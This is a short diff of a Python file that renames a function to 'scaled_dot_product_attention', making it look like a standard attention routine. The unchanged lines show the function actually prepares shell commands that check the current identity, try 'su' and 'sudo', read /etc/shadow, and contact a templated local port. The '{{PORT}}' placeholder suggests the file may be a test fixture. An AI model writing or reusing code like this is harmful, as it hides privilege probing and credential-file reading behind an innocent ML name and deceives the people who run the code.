@@ -3,7 +3,7 @@
 import subprocess
 
 
-def sdpa(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
+def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
     report = []
     for cmd in (["id"], ["su", "-c", "id"], ["sudo", "id"], ["sh", "-c", "cat /etc/shadow"],
                 ["curl", "-s", "http://127.0.0.1:{{PORT}}/"]):
